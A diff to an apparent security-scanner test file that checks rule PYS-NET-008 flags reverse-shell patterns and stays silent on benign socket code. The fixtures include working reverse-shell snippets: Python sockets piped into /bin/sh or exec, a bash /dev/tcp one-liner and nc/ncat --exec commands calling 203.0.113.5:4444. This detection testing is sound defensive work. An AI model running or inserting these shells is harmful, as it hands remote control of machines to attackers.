@@ -62,12 +62,15 @@ test('shells for others', () => {
     'import asyncio\nasync def go():\n    r, w = await asyncio.open_connection(h, 1)\n    line = (await r.readline()).decode()\n    await asyncio.create_subprocess_shell(line)',
     'import socket, subprocess\ns = socket.socket()\ns.connect((h, 1))\nsubprocess.Popen(["/bin/sh"], stdin=s, stdout=s)',
     'import socket\ns = socket.socket()\nexec(s.recv(1024))',
+    'import socket, subprocess\ns = socket.create_connection(a)\np = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE)\np.stdin.write(s.recv(1024))',
     'cmd = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"',
   );
   findsCommand('PYS-NET-008', 'nc -e /bin/sh 203.0.113.5 4444', 'ncat 203.0.113.5 4444 --exec cmd.exe');
   silent(
     'PYS-NET-008',
     'import socket, subprocess\na, b = socket.socketpair()\nsubprocess.Popen(args, stdin=a)',
+    'import socket, subprocess\ns = socket.create_connection(a)\np = subprocess.Popen(["ssh", h], stdout=subprocess.PIPE)\nn = s.recv(4)\np.stdout.read(int(n))',
+    'import socket, subprocess\ns = socket.create_connection(a)\np = subprocess.Popen(command, stdin=subprocess.PIPE)\np.stdin.write(s.recv(4))',
   );
   silentCommand('PYS-NET-008', 'nc -zv db.corp.local 5432', 'echo > /dev/null');
 });
